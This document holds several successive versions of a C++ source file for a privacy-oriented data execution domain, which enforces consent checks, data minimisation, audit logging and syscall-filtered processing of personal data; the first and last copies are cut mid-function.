  RGPD_ASSIGN_OR_RETURN(std::size_t index,
                        type_->ToSchema().FieldIndex(field));
  if (field_trace_ != nullptr) {
    field_trace_->insert(std::string(field));
  }
  return (*row_)[index];
}

Result<std::set<std::string>> DataExecutionDomain::EffectiveScope(
    const dsl::TypeDecl& type, const membrane::Consent& consent,
    const dsl::PurposeDecl& purpose) const {
  std::set<std::string> consented;
  switch (consent.kind) {
    case membrane::ConsentKind::kNone:
      return std::set<std::string>{};
    case membrane::ConsentKind::kAll: {
      RGPD_ASSIGN_OR_RETURN(consented, type.ViewFields("all"));
      break;
    }
    case membrane::ConsentKind::kView: {
      RGPD_ASSIGN_OR_RETURN(consented, type.ViewFields(consent.view));
      break;
    }
  }
  // Data minimisation: intersect with the view the purpose declared.
  RGPD_ASSIGN_OR_RETURN(std::set<std::string> requested,
                        type.ViewFields(purpose.input_view));
  std::set<std::string> effective;
  std::set_intersection(consented.begin(), consented.end(),
                        requested.begin(), requested.end(),
                        std::inserter(effective, effective.begin()));
  return effective;
}

Result<membrane::Membrane> DataExecutionDomain::BuildDerivedMembrane(
    const dsl::PurposeDecl& purpose,
    const membrane::Membrane& source) const {
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* output_type,
                        dbfs_->GetType(kDed, purpose.output_type));
  membrane::Membrane m =
      output_type->DefaultMembrane(source.subject_id, clock_->Now());
  m.origin = membrane::Origin::kDerived;
  // Derived PD is never laxer than its source: keep the stricter
  // sensitivity and the earlier expiry.
  m.sensitivity = std::max(m.sensitivity, source.sensitivity);
  if (source.ttl != 0) {
    const TimeMicros source_expiry = source.created_at + source.ttl;
    const TimeMicros own_expiry =
        m.ttl == 0 ? source_expiry : m.created_at + m.ttl;
    m.ttl = std::min(source_expiry, own_expiry) - m.created_at;
    if (m.ttl <= 0) m.ttl = 1;  // already at the edge: expire immediately
  }
  // Fresh copy group: derived PD is a new piece of data.
  m.copy_group = 0;
  return m;
}

Result<InvokeResult> DataExecutionDomain::Execute(
    const dsl::PurposeDecl& purpose, const std::string& processing_name,
    const ProcessingFn& fn, const std::optional<PdRef>& target,
    std::set<std::string>* field_trace,
    const std::vector<FieldPredicate>& predicates) {
  InvokeResult result;
  Stopwatch watch;
  RGPD_METRIC_COUNT("core.ded_execute.count");
  RGPD_METRIC_SCOPED_LATENCY("core.ded_execute.latency_ns");
  RGPD_TRACE_SPAN("core", "ded_execute");
  // One durable audit append per pipeline run (group commit), not per
  // record.
  ProcessingLog::BatchScope log_batch(*log_);

  // ---- ded_type2req: input type -> DBFS record requests --------------------
  watch.Restart();
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* input_type,
                        dbfs_->GetType(kDed, purpose.input_type));
  // Predicates may only touch the purpose's declared view: an application
  // must not turn the query layer into a side channel on hidden fields.
  const db::Schema input_schema = input_type->ToSchema();
  if (!predicates.empty()) {
    RGPD_ASSIGN_OR_RETURN(std::set<std::string> declared,
                          input_type->ViewFields(purpose.input_view));
    for (const FieldPredicate& predicate : predicates) {
      if (declared.count(predicate.field) == 0) {
        return PermissionDenied(
            "predicate on field '" + predicate.field +
            "' outside the purpose's declared view");
      }
    }
  }
  std::vector<dbfs::RecordId> candidates;
  if (target.has_value()) {
    if (target->type_name != purpose.input_type) {
      return InvalidArgument("PdRef names type '" + target->type_name +
                             "' but purpose '" + purpose.name +
                             "' consumes '" + purpose.input_type + "'");
    }
    candidates.push_back(target->record_id);
  } else {
    RGPD_ASSIGN_OR_RETURN(candidates,
                          dbfs_->RecordsOfType(kDed, purpose.input_type));
  }
  result.records_considered = candidates.size();
  result.timings.type2req_ns = watch.ElapsedNanos();

  // ---- ded_load_membrane: membranes only, no PD bytes ----------------------
  watch.Restart();
  std::vector<std::pair<dbfs::RecordId, membrane::Membrane>> membranes;
  membranes.reserve(candidates.size());
  for (dbfs::RecordId id : candidates) {
    RGPD_ASSIGN_OR_RETURN(membrane::Membrane m, dbfs_->GetMembrane(kDed, id));
    membranes.emplace_back(id, std::move(m));
  }
  result.timings.load_membrane_ns = watch.ElapsedNanos();

  // ---- ded_filter: keep records whose membrane approves the purpose --------
  watch.Restart();
  struct Approved {
    dbfs::RecordId id;
    membrane::Membrane membrane;
    std::set<std::string> scope;
  };
  std::vector<Approved> approved;
  const TimeMicros now = clock_->Now();
  for (auto& [id, m] : membranes) {
    auto consent = m.Evaluate(purpose.name, now);
    if (!consent.ok()) {
      ++result.records_filtered_out;
      RGPD_METRIC_COUNT("core.consent.filtered");
      log_->Append(processing_name, purpose.name, m.subject_id, id,
                   LogOutcome::kFiltered, consent.status().ToString());
      continue;
    }
    RGPD_METRIC_COUNT("core.consent.approved");
    RGPD_ASSIGN_OR_RETURN(std::set<std::string> scope,
                          EffectiveScope(*input_type, *consent, purpose));
    approved.push_back(Approved{id, std::move(m), std::move(scope)});
  }
  result.timings.filter_ns = watch.ElapsedNanos();

  // ---- ded_load_data: fetch rows for survivors only ------------------------
  watch.Restart();
  std::vector<db::Row> rows;
  rows.reserve(approved.size());
  for (const Approved& a : approved) {
    RGPD_ASSIGN_OR_RETURN(dbfs::PdRecord record, dbfs_->Get(kDed, a.id));
    if (record.erased) {
      // Raced with an erasure: treat as filtered.
      rows.emplace_back();
      continue;
    }
    rows.push_back(std::move(record.row));
  }
  result.timings.load_data_ns = watch.ElapsedNanos();

  // ---- ded_execute: run the implementation under the syscall filter --------
  watch.Restart();
  struct Derived {
    db::Row row;
    membrane::Membrane source_membrane;
  };
  std::vector<Derived> derived;
  for (std::size_t i = 0; i < approved.size(); ++i) {
    const Approved& a = approved[i];
    if (rows[i].empty()) {
      ++result.records_filtered_out;
      continue;
    }
    // Application-supplied predicates: consented rows that fail never
    // reach the implementation (and the subject's log says so).
    bool predicate_pass = true;
    for (const FieldPredicate& predicate : predicates) {
      auto index = input_schema.FieldIndex(predicate.field);
      if (!index.ok() || !predicate.Matches(rows[i][*index])) {
        predicate_pass = false;
        break;
      }
    }
    if (!predicate_pass) {
      ++result.records_filtered_out;
      log_->Append(processing_name, purpose.name, a.membrane.subject_id,
                   a.id, LogOutcome::kFiltered, "row predicate");
      continue;
    }
    sentinel::SyscallContext syscalls(
        sentinel::SyscallFilter::PdProcessingProfile(), now);
    ProcessingInput input(input_type, &rows[i], a.scope,
                          a.membrane.subject_id, a.id, &syscalls,
                          field_trace);
    auto output = fn(input);
    result.syscalls_denied += syscalls.denied_calls();
    if (syscalls.killed()) {
      log_->Append(processing_name, purpose.name, a.membrane.subject_id,
                   a.id, LogOutcome::kAborted,
                   "killed by syscall filter");
      return SyscallDenied("processing '" + processing_name +
                           "' was killed by the syscall filter");
    }
    if (!output.ok()) {
      log_->Append(processing_name, purpose.name, a.membrane.subject_id,
                   a.id, LogOutcome::kAborted, output.status().ToString());
      return output.status();
    }
    ++result.records_processed;
    RGPD_METRIC_COUNT("core.records.processed");
    log_->Append(processing_name, purpose.name, a.membrane.subject_id, a.id,
                 LogOutcome::kProcessed);
    if (!output->npd.empty()) {
      result.npd_outputs.push_back(std::move(output->npd));
    }
    if (output->derived_row.has_value()) {
      if (purpose.output_type.empty()) {
        return PurposeMismatch("processing '" + processing_name +
                               "' produced PD but purpose '" + purpose.name +
                               "' declares no output type");
      }
      derived.push_back(
          Derived{std::move(*output->derived_row), a.membrane});
    }
  }
  result.timings.execute_ns = watch.ElapsedNanos();

  // ---- ded_build_membrane ---------------------------------------------------
  watch.Restart();
  std::vector<membrane::Membrane> derived_membranes;
  derived_membranes.reserve(derived.size());
  for (const Derived& d : derived) {
    RGPD_ASSIGN_OR_RETURN(
        membrane::Membrane m,
        BuildDerivedMembrane(purpose, d.source_membrane));
    derived_membranes.push_back(std::move(m));
  }
  result.timings.build_membrane_ns = watch.ElapsedNanos();

  // ---- ded_store -------------------------------------------------------------
  watch.Restart();
  for (std::size_t i = 0; i < derived.size(); ++i) {
    RGPD_ASSIGN_OR_RETURN(
        dbfs::RecordId id,
        dbfs_->Put(kDed, derived_membranes[i].subject_id,
                   purpose.output_type, derived[i].row,
                   derived_membranes[i]));
    result.derived.push_back(PdRef{id, purpose.output_type});
  }
  result.timings.store_ns = watch.ElapsedNanos();

  // ---- ded_return -------------------------------------------------------------
  watch.Restart();
  // Nothing to marshal: InvokeResult already holds only refs and NPD.
  result.timings.return_ns = watch.ElapsedNanos();
  return result;
}

}  // namespace rgpdos::core
