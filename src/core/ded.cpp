#include "core/ded.hpp"

#include <algorithm>

#include "metrics/metrics.hpp"
#include "metrics/trace.hpp"

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;
/// Below this many candidates per lane, shard handoff costs more than it
/// buys; the pipeline stays single-lane.
constexpr std::size_t kMinRecordsPerShard = 4;
/// Candidates per batched-load chunk: one GetMembraneMany + one GetMany
/// per chunk. Big enough to amortise a device submission across the
/// chunk, small enough to bound the pipeline's in-flight PD.
constexpr std::size_t kLoadBatch = 16;
}

Result<db::Value> ProcessingInput::Field(std::string_view field) const {
  if (!Has(field)) {
    return ConsentDenied("field '" + std::string(field) +
                         "' is outside the consented scope");
  }
  RGPD_ASSIGN_OR_RETURN(std::size_t index,
                        type_->ToSchema().FieldIndex(field));
  if (field_trace_ != nullptr) {
    field_trace_->insert(std::string(field));
  }
  return (*row_)[index];
}

Result<std::set<std::string>> DataExecutionDomain::EffectiveScope(
    const dsl::TypeDecl& type, const membrane::Consent& consent,
    const dsl::PurposeDecl& purpose) const {
  std::set<std::string> consented;
  switch (consent.kind) {
    case membrane::ConsentKind::kNone:
      return std::set<std::string>{};
    case membrane::ConsentKind::kAll: {
      RGPD_ASSIGN_OR_RETURN(consented, type.ViewFields("all"));
      break;
    }
    case membrane::ConsentKind::kView: {
      RGPD_ASSIGN_OR_RETURN(consented, type.ViewFields(consent.view));
      break;
    }
  }
  // Data minimisation: intersect with the view the purpose declared.
  RGPD_ASSIGN_OR_RETURN(std::set<std::string> requested,
                        type.ViewFields(purpose.input_view));
  std::set<std::string> effective;
  std::set_intersection(consented.begin(), consented.end(),
                        requested.begin(), requested.end(),
                        std::inserter(effective, effective.begin()));
  return effective;
}

Result<membrane::Membrane> DataExecutionDomain::BuildDerivedMembrane(
    const dsl::PurposeDecl& purpose,
    const membrane::Membrane& source) const {
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* output_type,
                        dbfs_->GetType(kDed, purpose.output_type));
  membrane::Membrane m =
      output_type->DefaultMembrane(source.subject_id, clock_->Now());
  m.origin = membrane::Origin::kDerived;
  // Derived PD is never laxer than its source: keep the stricter
  // sensitivity and the earlier expiry.
  m.sensitivity = std::max(m.sensitivity, source.sensitivity);
  if (source.ttl != 0) {
    const TimeMicros source_expiry = source.created_at + source.ttl;
    const TimeMicros own_expiry =
        m.ttl == 0 ? source_expiry : m.created_at + m.ttl;
    m.ttl = std::min(source_expiry, own_expiry) - m.created_at;
    if (m.ttl <= 0) m.ttl = 1;  // already at the edge: expire immediately
  }
  // Fresh copy group: derived PD is a new piece of data.
  m.copy_group = 0;
  return m;
}

DataExecutionDomain::Decision DataExecutionDomain::Decide(
    const membrane::Membrane& m, const dsl::TypeDecl& type,
    const dsl::PurposeDecl& purpose, dbfs::RecordId id, TimeMicros now,
    DecisionMemo* memo) const {
  if (memo != nullptr) {
    if (auto hit = memo->Lookup(id, m.version)) {
      RGPD_METRIC_COUNT("cache.decision.hit");
      return std::move(*hit);
    }
    RGPD_METRIC_COUNT("cache.decision.miss");
  }
  Decision decision;
  const auto consent = m.Evaluate(purpose.name, now, purpose.automated);
  if (!consent.ok()) {
    decision.approved = false;
    decision.filter_detail = consent.status().ToString();
    if (consent.status().code() == StatusCode::kObjected) {
      RGPD_METRIC_COUNT("core.consent.objected");
    }
  } else {
    decision.approved = true;
    decision.consent = *consent;
    Result<std::set<std::string>> scope =
        EffectiveScope(type, *consent, purpose);
    if (!scope.ok()) {
      decision.error = scope.status();
    } else {
      decision.scope = std::move(scope).value();
    }
  }
  if (memo != nullptr) memo->Store(id, m.version, decision);
  return decision;
}

void DataExecutionDomain::ExecuteStaged(
    StagedRecord s, RecordOutcome& out, const dsl::TypeDecl& input_type,
    const db::Schema& input_schema, const dsl::PurposeDecl& purpose,
    const std::string& processing_name, const ProcessingFn& fn,
    const std::vector<FieldPredicate>& predicates, TimeMicros now,
    bool want_trace, DecisionMemo* memo) const {
  if (!s.record.ok()) {
    out.error = s.record.status();
    return;
  }
  dbfs::PdRecord record = std::move(*s.record);
  if (record.erased) {
    // Raced with an erasure: treat as filtered.
    ++out.filtered;
    return;
  }
  // Execute-time freshness: the rows were batch-loaded, possibly well
  // before this lane got to them. If the subject's mutation generation
  // moved since the load (a withdrawal / erasure / rectification acked
  // in between), re-fetch the authoritative membrane so the
  // re-validation below sees the post-mutation version — a stale
  // approval must not leak PD. Unchanged generation proves the loaded
  // image is still authoritative: one atomic load, no extra IO.
  if (dbfs_->SubjectGeneration(record.membrane.subject_id) !=
      s.subject_gen) {
    Result<membrane::Membrane> fresh = dbfs_->GetMembrane(kDed, s.id);
    if (!fresh.ok()) {
      out.error = fresh.status();
      return;
    }
    record.membrane = std::move(*fresh);
  }
  // Re-validate the filter decision against the membrane that travelled
  // WITH the row. Unchanged version + memo on: a lookup hit, no second
  // evaluation. Version moved (a concurrent withdrawal / erasure /
  // rectification landed between filter and load): a fresh decision on
  // the authoritative membrane — a stale approval must not leak PD.
  // Memo off: only the version-moved case re-decides (the historical
  // cost profile, plus the correctness fix).
  Decision decision = std::move(s.decision);
  const bool version_moved = record.membrane.version != s.membrane.version;
  if (version_moved || memo != nullptr) {
    Decision revalidated =
        Decide(record.membrane, input_type, purpose, s.id, now, memo);
    if (!revalidated.error.ok()) {
      out.error = revalidated.error;
      return;
    }
    if (!revalidated.approved) {
      ++out.filtered;
      RGPD_METRIC_COUNT("core.consent.filtered");
      if (version_moved) RGPD_METRIC_COUNT("core.consent.stale_revoked");
      out.logs.push_back({record.membrane.subject_id, s.id,
                          LogOutcome::kFiltered,
                          revalidated.filter_detail});
      return;
    }
    decision = std::move(revalidated);
  }
  // From here on the membrane that travelled WITH the row is the
  // authoritative one (same version as the decision just validated).
  membrane::Membrane m = std::move(record.membrane);
  db::Row row = std::move(record.row);

  // ---- ded_execute: run the implementation under the syscall filter --------
  Stopwatch watch;
  // Application-supplied predicates: consented rows that fail never
  // reach the implementation (and the subject's log says so).
  bool predicate_pass = true;
  for (const FieldPredicate& predicate : predicates) {
    const auto index = input_schema.FieldIndex(predicate.field);
    if (!index.ok() || !predicate.Matches(row[*index])) {
      predicate_pass = false;
      break;
    }
  }
  if (!predicate_pass) {
    ++out.filtered;
    out.logs.push_back(
        {m.subject_id, s.id, LogOutcome::kFiltered, "row predicate"});
    out.timings.execute_ns = watch.ElapsedNanos();
    return;
  }
  sentinel::SyscallContext syscalls(
      sentinel::SyscallFilter::PdProcessingProfile(), now);
  ProcessingInput input(&input_type, &row, std::move(decision.scope),
                        m.subject_id, s.id, &syscalls,
                        want_trace ? &out.fields : nullptr);
  auto output = fn(input);
  out.syscalls_denied = syscalls.denied_calls();
  if (syscalls.killed()) {
    out.logs.push_back({m.subject_id, s.id, LogOutcome::kAborted,
                        "killed by syscall filter"});
    out.error = SyscallDenied("processing '" + processing_name +
                              "' was killed by the syscall filter");
    out.timings.execute_ns = watch.ElapsedNanos();
    return;
  }
  if (!output.ok()) {
    out.logs.push_back({m.subject_id, s.id, LogOutcome::kAborted,
                        output.status().ToString()});
    out.error = output.status();
    out.timings.execute_ns = watch.ElapsedNanos();
    return;
  }
  out.processed = true;
  out.logs.push_back({m.subject_id, s.id, LogOutcome::kProcessed, {}});
  out.npd = std::move(output->npd);
  if (output->derived_row.has_value()) {
    out.derived_row = std::move(*output->derived_row);
    out.source_membrane = std::move(m);
  }
  out.timings.execute_ns = watch.ElapsedNanos();
}

Result<InvokeResult> DataExecutionDomain::Execute(
    const dsl::PurposeDecl& purpose, const std::string& processing_name,
    const ProcessingFn& fn, const std::optional<PdRef>& target,
    std::set<std::string>* field_trace,
    const std::vector<FieldPredicate>& predicates) {
  InvokeResult result;
  Stopwatch watch;
  RGPD_METRIC_COUNT("core.ded_execute.count");
  RGPD_METRIC_SCOPED_LATENCY("core.ded_execute.latency_ns");
  RGPD_TRACE_SPAN("core", "ded_execute");
  // One durable audit append per pipeline run (group commit), not per
  // record.
  ProcessingLog::BatchScope log_batch(*log_);

  // ---- ded_type2req: input type -> DBFS record requests --------------------
  watch.Restart();
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* input_type,
                        dbfs_->GetType(kDed, purpose.input_type));
  // Predicates may only touch the purpose's declared view: an application
  // must not turn the query layer into a side channel on hidden fields.
  const db::Schema input_schema = input_type->ToSchema();
  if (!predicates.empty()) {
    RGPD_ASSIGN_OR_RETURN(std::set<std::string> declared,
                          input_type->ViewFields(purpose.input_view));
    for (const FieldPredicate& predicate : predicates) {
      if (declared.count(predicate.field) == 0) {
        return PermissionDenied(
            "predicate on field '" + predicate.field +
            "' outside the purpose's declared view");
      }
    }
  }
  std::vector<dbfs::RecordId> candidates;
  if (target.has_value()) {
    if (target->type_name != purpose.input_type) {
      return InvalidArgument("PdRef names type '" + target->type_name +
                             "' but purpose '" + purpose.name +
                             "' consumes '" + purpose.input_type + "'");
    }
    candidates.push_back(target->record_id);
  } else {
    RGPD_ASSIGN_OR_RETURN(candidates,
                          dbfs_->RecordsOfType(kDed, purpose.input_type));
  }
  result.records_considered = candidates.size();
  result.timings.type2req_ns = watch.ElapsedNanos();

  // ---- per-record stages: load_membrane / filter / load_data / execute -----
  // The IO stages run chunked: one GetMembraneMany per chunk feeds the
  // filter, the chunk's survivors fetch their rows in one GetMany — a
  // handful of amortised batched device submissions per chunk instead of
  // 3+ serialized reads per record. Outcomes merge in candidate order
  // below, so the log and the returned error are lane-count-invariant.
  const TimeMicros now = clock_->Now();
  // One decision memo per invoke (the paper's purpose is fixed for the
  // whole pipeline, so (purpose, record) keys degenerate to record ids).
  DecisionMemo memo;
  DecisionMemo* memo_ptr = memoize_decisions_ ? &memo : nullptr;
  const bool want_trace = field_trace != nullptr;
  std::vector<RecordOutcome> outcomes(candidates.size());
  // Load + filter one chunk; approved survivors (rows attached) land in
  // `staged`. Batch timings are booked on the chunk's first outcome —
  // the merge only ever sums them.
  const auto stage_chunk = [&](std::size_t base, std::size_t lim,
                               std::vector<StagedRecord>& staged) {
    Stopwatch batch_watch;
    const std::vector<dbfs::RecordId> chunk(candidates.begin() + base,
                                            candidates.begin() + lim);
    std::vector<Result<membrane::Membrane>> membranes =
        dbfs_->GetMembraneMany(kDed, chunk);
    outcomes[base].timings.load_membrane_ns += batch_watch.ElapsedNanos();
    for (std::size_t i = base; i < lim; ++i) {
      RecordOutcome& out = outcomes[i];
      Result<membrane::Membrane>& m = membranes[i - base];
      if (!m.ok()) {
        out.error = m.status();
        continue;
      }
      Stopwatch watch;
      Decision decision =
          Decide(*m, *input_type, purpose, candidates[i], now, memo_ptr);
      out.timings.filter_ns += watch.ElapsedNanos();
      if (!decision.error.ok()) {
        out.error = decision.error;
        continue;
      }
      if (!decision.approved) {
        ++out.filtered;
        RGPD_METRIC_COUNT("core.consent.filtered");
        out.logs.push_back({m->subject_id, candidates[i],
                            LogOutcome::kFiltered, decision.filter_detail});
        continue;
      }
      RGPD_METRIC_COUNT("core.consent.approved");
      StagedRecord s;
      s.index = i;
      s.id = candidates[i];
      s.membrane = std::move(*m);
      s.decision = std::move(decision);
      staged.push_back(std::move(s));
    }
    if (staged.empty()) return;
    std::vector<dbfs::RecordId> ids;
    ids.reserve(staged.size());
    for (const StagedRecord& s : staged) ids.push_back(s.id);
    batch_watch.Restart();
    std::vector<Result<dbfs::PdRecord>> records = dbfs_->GetMany(kDed, ids);
    outcomes[staged.front().index].timings.load_data_ns +=
        batch_watch.ElapsedNanos();
    for (std::size_t k = 0; k < staged.size(); ++k) {
      staged[k].record = std::move(records[k]);
      staged[k].subject_gen =
          dbfs_->SubjectGeneration(staged[k].membrane.subject_id);
    }
  };
  std::size_t lanes = 1;
  if (executor_ != nullptr && !candidates.empty()) {
    const std::size_t by_work =
        (candidates.size() + kMinRecordsPerShard - 1) / kMinRecordsPerShard;
    lanes = std::min<std::size_t>(executor_->worker_count() + 1, by_work);
  }
  if (lanes <= 1) {
    for (std::size_t base = 0; base < candidates.size();
         base += kLoadBatch) {
      const std::size_t lim =
          std::min(candidates.size(), base + kLoadBatch);
      std::vector<StagedRecord> staged;
      stage_chunk(base, lim, staged);
      for (StagedRecord& s : staged) {
        const std::size_t index = s.index;
        ExecuteStaged(std::move(s), outcomes[index], *input_type,
                      input_schema, purpose, processing_name, fn,
                      predicates, now, want_trace, memo_ptr);
      }
    }
  } else {
    RGPD_METRIC_COUNT("core.ded_execute.parallel");
    // Pipelined: the first lane runs the IO stages and feeds survivors
    // through a bounded queue; the other lanes run the execute stage
    // concurrently. The queue bound is the backpressure — the loader
    // stalls when the implementations fall behind. Lane roles go by
    // claim order (shard 0 is always the first shard claimed), and
    // lanes > 1 implies at least one pool worker, so the producer never
    // waits on a consumer that cannot exist.
    BoundedQueue<StagedRecord> queue(2 * kLoadBatch);
    executor_->ParallelFor(lanes, [&](std::size_t shard) {
      if (shard == 0) {
        for (std::size_t base = 0; base < candidates.size();
             base += kLoadBatch) {
          const std::size_t lim =
              std::min(candidates.size(), base + kLoadBatch);
          std::vector<StagedRecord> staged;
          stage_chunk(base, lim, staged);
          for (StagedRecord& s : staged) {
            if (!queue.Push(std::move(s))) return;
          }
        }
        queue.Close();
      } else {
        StagedRecord s;
        while (queue.Pop(s)) {
          const std::size_t index = s.index;
          ExecuteStaged(std::move(s), outcomes[index], *input_type,
                        input_schema, purpose, processing_name, fn,
                        predicates, now, want_trace, memo_ptr);
        }
      }
    });
  }

  // ---- merge in candidate order --------------------------------------------
  struct Derived {
    db::Row row;
    membrane::Membrane source_membrane;
  };
  std::vector<Derived> derived;
  for (RecordOutcome& out : outcomes) {
    for (RecordOutcome::StagedLog& staged : out.logs) {
      log_->Append(processing_name, purpose.name, staged.subject,
                   staged.record, staged.outcome, std::move(staged.detail));
    }
    result.records_filtered_out += out.filtered;
    result.syscalls_denied += out.syscalls_denied;
    result.timings.load_membrane_ns += out.timings.load_membrane_ns;
    result.timings.filter_ns += out.timings.filter_ns;
    result.timings.load_data_ns += out.timings.load_data_ns;
    result.timings.execute_ns += out.timings.execute_ns;
    if (field_trace != nullptr) {
      field_trace->insert(out.fields.begin(), out.fields.end());
    }
    if (!out.error.ok()) {
      // Same contract as a serial run: the first failing record (in
      // candidate order) aborts the invoke; nothing derived is stored.
      return out.error;
    }
    if (out.processed) {
      ++result.records_processed;
      RGPD_METRIC_COUNT("core.records.processed");
    }
    if (!out.npd.empty()) {
      result.npd_outputs.push_back(std::move(out.npd));
    }
    if (out.derived_row.has_value()) {
      if (purpose.output_type.empty()) {
        return PurposeMismatch("processing '" + processing_name +
                               "' produced PD but purpose '" + purpose.name +
                               "' declares no output type");
      }
      derived.push_back(Derived{std::move(*out.derived_row),
                                std::move(out.source_membrane)});
    }
  }

  // ---- ded_build_membrane ---------------------------------------------------
  watch.Restart();
  std::vector<membrane::Membrane> derived_membranes;
  derived_membranes.reserve(derived.size());
  for (const Derived& d : derived) {
    RGPD_ASSIGN_OR_RETURN(
        membrane::Membrane m,
        BuildDerivedMembrane(purpose, d.source_membrane));
    derived_membranes.push_back(std::move(m));
  }
  result.timings.build_membrane_ns = watch.ElapsedNanos();

  // ---- ded_store -------------------------------------------------------------
  watch.Restart();
  for (std::size_t i = 0; i < derived.size(); ++i) {
    RGPD_ASSIGN_OR_RETURN(
        dbfs::RecordId id,
        dbfs_->Put(kDed, derived_membranes[i].subject_id,
                   purpose.output_type, derived[i].row,
                   derived_membranes[i]));
    result.derived.push_back(PdRef{id, purpose.output_type});
  }
  result.timings.store_ns = watch.ElapsedNanos();

  // ---- ded_return -------------------------------------------------------------
  watch.Restart();
  // Nothing to marshal: InvokeResult already holds only refs and NPD.
  result.timings.return_ns = watch.ElapsedNanos();
  return result;
}

}  // namespace rgpdos::core
