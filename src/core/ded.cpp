#include "core/ded.hpp"

#include <algorithm>

#include "metrics/metrics.hpp"
#include "metrics/trace.hpp"

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;
/// Below this many candidates per lane, shard handoff costs more than it
/// buys; the pipeline stays single-lane.
constexpr std::size_t kMinRecordsPerShard = 4;
}

Result<db::Value> ProcessingInput::Field(std::string_view field) const {
  if (!Has(field)) {
    return ConsentDenied("field '" + std::string(field) +
                         "' is outside the consented scope");
  }
  RGPD_ASSIGN_OR_RETURN(std::size_t index,
                        type_->ToSchema().FieldIndex(field));
  if (field_trace_ != nullptr) {
    field_trace_->insert(std::string(field));
  }
  return (*row_)[index];
}

Result<std::set<std::string>> DataExecutionDomain::EffectiveScope(
    const dsl::TypeDecl& type, const membrane::Consent& consent,
    const dsl::PurposeDecl& purpose) const {
  std::set<std::string> consented;
  switch (consent.kind) {
    case membrane::ConsentKind::kNone:
      return std::set<std::string>{};
    case membrane::ConsentKind::kAll: {
      RGPD_ASSIGN_OR_RETURN(consented, type.ViewFields("all"));
      break;
    }
    case membrane::ConsentKind::kView: {
      RGPD_ASSIGN_OR_RETURN(consented, type.ViewFields(consent.view));
      break;
    }
  }
  // Data minimisation: intersect with the view the purpose declared.
  RGPD_ASSIGN_OR_RETURN(std::set<std::string> requested,
                        type.ViewFields(purpose.input_view));
  std::set<std::string> effective;
  std::set_intersection(consented.begin(), consented.end(),
                        requested.begin(), requested.end(),
                        std::inserter(effective, effective.begin()));
  return effective;
}

Result<membrane::Membrane> DataExecutionDomain::BuildDerivedMembrane(
    const dsl::PurposeDecl& purpose,
    const membrane::Membrane& source) const {
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* output_type,
                        dbfs_->GetType(kDed, purpose.output_type));
  membrane::Membrane m =
      output_type->DefaultMembrane(source.subject_id, clock_->Now());
  m.origin = membrane::Origin::kDerived;
  // Derived PD is never laxer than its source: keep the stricter
  // sensitivity and the earlier expiry.
  m.sensitivity = std::max(m.sensitivity, source.sensitivity);
  if (source.ttl != 0) {
    const TimeMicros source_expiry = source.created_at + source.ttl;
    const TimeMicros own_expiry =
        m.ttl == 0 ? source_expiry : m.created_at + m.ttl;
    m.ttl = std::min(source_expiry, own_expiry) - m.created_at;
    if (m.ttl <= 0) m.ttl = 1;  // already at the edge: expire immediately
  }
  // Fresh copy group: derived PD is a new piece of data.
  m.copy_group = 0;
  return m;
}

DataExecutionDomain::Decision DataExecutionDomain::Decide(
    const membrane::Membrane& m, const dsl::TypeDecl& type,
    const dsl::PurposeDecl& purpose, dbfs::RecordId id, TimeMicros now,
    DecisionMemo* memo) const {
  if (memo != nullptr) {
    if (auto hit = memo->Lookup(id, m.version)) {
      RGPD_METRIC_COUNT("cache.decision.hit");
      return std::move(*hit);
    }
    RGPD_METRIC_COUNT("cache.decision.miss");
  }
  Decision decision;
  const auto consent = m.Evaluate(purpose.name, now);
  if (!consent.ok()) {
    decision.approved = false;
    decision.filter_detail = consent.status().ToString();
  } else {
    decision.approved = true;
    decision.consent = *consent;
    Result<std::set<std::string>> scope =
        EffectiveScope(type, *consent, purpose);
    if (!scope.ok()) {
      decision.error = scope.status();
    } else {
      decision.scope = std::move(scope).value();
    }
  }
  if (memo != nullptr) memo->Store(id, m.version, decision);
  return decision;
}

DataExecutionDomain::RecordOutcome DataExecutionDomain::RunRecord(
    dbfs::RecordId id, const dsl::TypeDecl& input_type,
    const db::Schema& input_schema, const dsl::PurposeDecl& purpose,
    const std::string& processing_name, const ProcessingFn& fn,
    const std::vector<FieldPredicate>& predicates, TimeMicros now,
    bool want_trace, DecisionMemo* memo) const {
  RecordOutcome out;
  Stopwatch watch;

  // ---- ded_load_membrane: membrane only, no PD bytes -----------------------
  Result<membrane::Membrane> m = dbfs_->GetMembrane(kDed, id);
  out.timings.load_membrane_ns = watch.ElapsedNanos();
  if (!m.ok()) {
    out.error = m.status();
    return out;
  }

  // ---- ded_filter: does the membrane approve the purpose now? --------------
  watch.Restart();
  Decision decision = Decide(*m, input_type, purpose, id, now, memo);
  if (!decision.error.ok()) {
    out.error = decision.error;
    out.timings.filter_ns = watch.ElapsedNanos();
    return out;
  }
  if (!decision.approved) {
    ++out.filtered;
    RGPD_METRIC_COUNT("core.consent.filtered");
    out.logs.push_back({m->subject_id, id, LogOutcome::kFiltered,
                        decision.filter_detail});
    out.timings.filter_ns = watch.ElapsedNanos();
    return out;
  }
  RGPD_METRIC_COUNT("core.consent.approved");
  out.timings.filter_ns = watch.ElapsedNanos();

  // ---- ded_load_data: fetch the row for this survivor ----------------------
  watch.Restart();
  Result<dbfs::PdRecord> record = dbfs_->Get(kDed, id);
  out.timings.load_data_ns = watch.ElapsedNanos();
  if (!record.ok()) {
    out.error = record.status();
    return out;
  }
  if (record->erased) {
    // Raced with an erasure: treat as filtered.
    ++out.filtered;
    return out;
  }
  // Re-validate the filter decision against the membrane that travelled
  // WITH the row. Unchanged version + memo on: a lookup hit, no second
  // evaluation. Version moved (a concurrent withdrawal / erasure /
  // rectification landed between filter and load): a fresh decision on
  // the authoritative membrane — a stale approval must not leak PD.
  // Memo off: only the version-moved case re-decides (the historical
  // cost profile, plus the correctness fix).
  const bool version_moved = record->membrane.version != m->version;
  if (version_moved || memo != nullptr) {
    Decision revalidated =
        Decide(record->membrane, input_type, purpose, id, now, memo);
    if (!revalidated.error.ok()) {
      out.error = revalidated.error;
      return out;
    }
    if (!revalidated.approved) {
      ++out.filtered;
      RGPD_METRIC_COUNT("core.consent.filtered");
